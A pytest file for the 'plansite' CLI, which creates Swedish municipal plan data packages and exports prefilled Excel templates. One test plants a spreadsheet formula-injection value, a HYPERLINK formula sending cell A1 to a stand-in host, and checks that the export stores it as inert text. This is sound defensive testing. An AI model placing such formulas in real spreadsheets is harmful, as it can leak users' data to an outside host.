"""plansite new and plansite export-template: a new plan that validates at once, and a spreadsheet
template prefilled from a plan, read as real files (openpyxl)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from generator.authoring import layout
from generator.cli import cli
from generator.spec.package import (
    build_descriptor,
    canonical_schema,
    descriptor_text,
    plan_metadata_schema,
)
from generator.validate.project import validate_project

from .conftest import MINIMAL_FILES, ROOT, make_package

PLAN = "vetlanda-socialnamnden-2025-2027"
NEW = ["new", PLAN, "--municipality-code", "0685", "--board", "Socialnämnden", "--title", "Nämndplan 2025–2027",
       "--type", "nämndplan", "--period", "2025-2027"]


def run(*args: str, env: dict | None = None, input: str | None = None):
    return CliRunner().invoke(cli, list(args), env=env or {"LANG": "sv_SE.UTF-8"}, input=input)


def test_new_scaffolds_a_plan_that_validates_at_once(tmp_path: Path):
    result = run(*NEW, "--root", str(tmp_path))
    assert result.exit_code == 0, result.output
    package, chapters = tmp_path / "datapackages" / PLAN, tmp_path / "content" / PLAN
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["plan"] == {"municipality": "Vetlanda", "municipality_code": "0685", "board": "Socialnämnden",
                                  "title": "Nämndplan 2025–2027", "document_type": "nämndplan", "period_start": 2025,
                                  "period_end": 2027, "source": {"title": "Nämndplan 2025–2027"}}
    present = [r["name"] for r in descriptor["resources"]]
    # written by the same code as python -m generator.spec.package
    assert (package / "datapackage.json").read_text(encoding="utf-8") == descriptor_text(
        build_descriptor(PLAN, descriptor["plan"], present))
    for name in present:
        rows = list(csv.reader(io.StringIO((package / f"{name}.csv").read_text(encoding="utf-8"))))
        assert rows == [[f["name"] for f in canonical_schema(name)["fields"]]]
    assert {"goals", "indicators", "observations", "budget_lines"} <= set(present)
    assert [p.name for p in chapters.iterdir()] == ["01-inledning.md"]
    report = validate_project(tmp_path / "datapackages", tmp_path / "content")
    assert report.errors == () and report.plans == (PLAN,)
    assert [c.title for c in report.validated[PLAN].chapters] == ["Inledning"]
    assert f"plansite export-template {PLAN}" in result.output


def test_new_refuses_wrong_values_and_an_existing_plan_and_writes_nothing(tmp_path: Path):
    bad = run("new", "Fel_ID", "--municipality-code", "9999", "--board", " ", "--title", "T", "--type", "plan",
              "--period", "2027-2025", "--root", str(tmp_path), "--lang", "en")
    assert bad.exit_code == 1 and "Traceback" not in bad.output
    for words in ("Fel_ID", '"9999"', "--type", "--board", '"2027-2025"'):
        assert words in bad.output, words
    assert not (tmp_path / "datapackages").exists() or not any((tmp_path / "datapackages").iterdir())
    assert run(*NEW, "--root", str(tmp_path)).exit_code == 0
    again = run(*NEW, "--root", str(tmp_path))
    assert again.exit_code == 1 and "finns redan" in again.output


def test_new_without_a_terminal_names_what_is_missing(tmp_path: Path):
    result = run("new", PLAN, "--board", "Socialnämnden", "--root", str(tmp_path))
    assert result.exit_code == 2
    assert "--municipality-code" in result.output and "--period" in result.output and "--board" not in result.output
    assert not (tmp_path / "datapackages" / PLAN).exists()


def test_new_asks_for_what_is_missing_at_a_terminal(tmp_path: Path, monkeypatch):
    monkeypatch.setattr("generator.cli._interactive", lambda: True)
    answers = "0685\nSocialnämnden\nNämndplan 2025–2027\nnämndplan\n2025-2027\n"
    result = run("new", PLAN, "--root", str(tmp_path), input=answers)
    assert result.exit_code == 0, result.output
    assert "Kommunkod" in result.output
    assert json.loads((tmp_path / "datapackages" / PLAN / "datapackage.json").read_text())["plan"]["period_end"] == 2027


def _export(tmp_path: Path, plan_dir: Path, *args: str):
    out = tmp_path / "mall.xlsx"
    result = run("export-template", plan_dir.name, "--datapackages", str(plan_dir.parent), "-o", str(out), *args)
    assert result.exit_code == 0, result.output
    return load_workbook(out)


def test_the_template_has_the_plan_a_sheet_per_table_and_a_help_sheet(tmp_path: Path):
    formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Klicka\")"
    goals = MINIMAL_FILES["goals.csv"].replace("Trygghet,,", f'Trygghet,"{formula.replace(chr(34), chr(34) * 2)}",', 1)
    folder = make_package(tmp_path, files={"goals.csv": goals})
    book = _export(tmp_path, folder)
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    # a sheet per table, and the follow-ups' sheets (only their header) though the plan has none yet
    assert book.sheetnames == ["plan", *[r["name"] for r in descriptor["resources"]], "followups", "followup_values",
                               "hjälp"]
    assert [layout.unmarked(c.value) for c in book["followups"][1]] == \
        [f["title"] for f in canonical_schema("followups")["fields"]]
    assert book["followups"].max_row == 1 and book["followup_values"].max_row == 1
    plan = {layout.unmarked(row[0].value): row[1].value for row in book["plan"].iter_rows(min_row=2)}
    assert plan["plan_id"] == folder.name and plan["period_start"] == 2024 and plan["source.title"] == "Testdokument"
    assert plan["municipality_code"] == "0683" and "responsible[1].name" in plan and "notes[1]" in plan
    observations = book["observations"]
    assert [layout.unmarked(c.value) for c in observations[1]] == \
        [f["title"] for f in canonical_schema("observations")["fields"]]
    assert observations["A1"].value == "Indikator-id *" and observations["B2"].value == 2022
    lists = {str(v.sqref).split(":")[0]: v.formula1 for v in observations.data_validations.dataValidation}
    assert lists["C2"] == '"utfall,prognos,mal,budget,plan"' and lists["D2"] == '"T,K,M"'
    assert lists["E2"] == '"<=,>=,=,<,>"'
    budget = book["budget_values"]
    assert budget["F2"].value == 30.4 and budget["F2"].number_format == "#,##0.0"
    description = book["goals"]["G2"]
    assert description.value == formula and description.data_type == "s" and description.quotePrefix
    help_rows = [[c.value for c in row] for row in book["hjälp"].iter_rows()]
    (gender,) = [r for r in help_rows if r[0] == "observations" and r[2] == "gender"]
    assert gender[1] == "Kön" and gender[5] == "T, K, M" and "kvinnor" in gender[6]


def test_the_template_help_speaks_english_when_asked(tmp_path: Path):
    book = _export(tmp_path, make_package(tmp_path), "--lang", "en")
    assert book["plan"]["A1"].value == "Field (* required)" and book["observations"]["A1"].value == "Indikator-id *"
    assert any("women" in str(c.value) for row in book["hjälp"].iter_rows() for c in row)


def test_a_plan_with_tables_of_its_own_keeps_their_descriptions_in_a_hidden_sheet(tmp_path: Path):
    plan_dir = ROOT / "datapackages" / "tyreso-arbetsmarknad-och-social-2024"
    book = _export(tmp_path, plan_dir)
    extra = book["egna_tabeller"]
    assert extra.sheet_state == "hidden"
    names = [row[0].value for row in extra.iter_rows(min_row=2)]
    assert names == ["tillganglighetsplan_aktiviteter", "arshjul", "styrdokument"]
    arshjul = json.loads(extra["B3"].value)
    assert arshjul["schema"]["fields"][0]["constraints"]["enum"][0] == "Januari"
    assert book["arshjul"]["A1"].value == "Månad *"  # required in the plan's own schema
    arshjul_required = {f["title"] for f in arshjul["schema"]["fields"] if f.get("constraints", {}).get("required")}
    assert {c.value.removesuffix(" *") for c in book["arshjul"][1] if c.value.endswith(" *")} == arshjul_required


def test_export_of_a_missing_or_broken_plan_is_one_clean_error(tmp_path: Path):
    missing = run("export-template", "finns-inte", "--datapackages", str(tmp_path), "-o", str(tmp_path / "x.xlsx"))
    assert missing.exit_code == 1 and "finns-inte" in missing.output and "Traceback" not in missing.output
    folder = make_package(tmp_path, files={"goals.csv": MINIMAL_FILES["goals.csv"].replace("area", "omrade")})
    broken = run("export-template", folder.name, "--datapackages", str(folder.parent), "-o", str(tmp_path / "x.xlsx"))
    assert broken.exit_code == 1 and "goals.csv:2: level" in broken.output
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.parametrize("lang, words", [("sv_SE.UTF-8", ["Läs in", "--force", "Ersätt"]),
                                         ("en_GB.UTF-8", ["Read an Excel", "--force", "Replace an existing"])])
def test_the_commands_explain_themselves_in_swedish_and_english(lang: str, words: list[str]):
    for command in ("new", "export-template", "import"):
        result = run(command, "--help", env={"LANG": lang})
        assert result.exit_code == 0 and "Traceback" not in result.output
    text = run("import", "--help", env={"LANG": lang}).output
    assert all(w in text for w in words), text
    listing = run("--help", env={"LANG": lang}).output
    assert ("Skapa en ny plan" if lang.startswith("sv") else "Create a new plan") in listing


def _required_plan_paths(path: str) -> bool:
    """Whether the format requires a plan sheet row, read from plan.json itself: required at every level."""
    if path == "plan_id":
        return True
    schema, parts = plan_metadata_schema(), path.split(".")
    for part in parts:
        name = part.split("[")[0]
        if name not in schema.get("required", []):
            return False
        prop = schema["properties"][name]
        schema = prop.get("items", prop) if "[" in part else prop
    return True


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_the_template_marks_exactly_the_fields_the_format_requires(tmp_path: Path, lang: str):
    plan_dir = ROOT / "datapackages" / "varnamo-medborgarnamnden-2024-2026"
    book = _export(tmp_path, plan_dir, "--lang", lang)
    descriptor = json.loads((plan_dir / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        headers = [c.value for c in book[resource["name"]][1]]
        marked = {h.removesuffix(" *") for h in headers if h.endswith(" *")}
        required = {f["title"] for f in resource["schema"]["fields"] if f.get("constraints", {}).get("required")}
        assert marked == required and required, resource["name"]
    rows = [row[0] for row in book["plan"].iter_rows(min_row=2)]
    marked_rows = {c.value.removesuffix(" *") for c in rows if c.value.endswith(" *")}
    assert marked_rows == {path for c in rows if _required_plan_paths(path := c.value.removesuffix(" *"))}
    assert {"plan_id", "municipality", "period_end", "source.title"} <= marked_rows
    assert not marked_rows & {"source.url", "responsible[1].name", "notes[1]", "adopted_by"}
    assert all(bool(c.font.b) == c.value.endswith(" *") for c in rows)  # the marked rows in bold
    legend = "* after a field" if lang == "en" else "* efter ett fält"
    assert any(str(row[0]).startswith(legend) for row in book["hjälp"].iter_rows(values_only=True))
    assert book["plan"]["A1"].value == ("Field (* required)" if lang == "en" else "Fält (* krävs)")
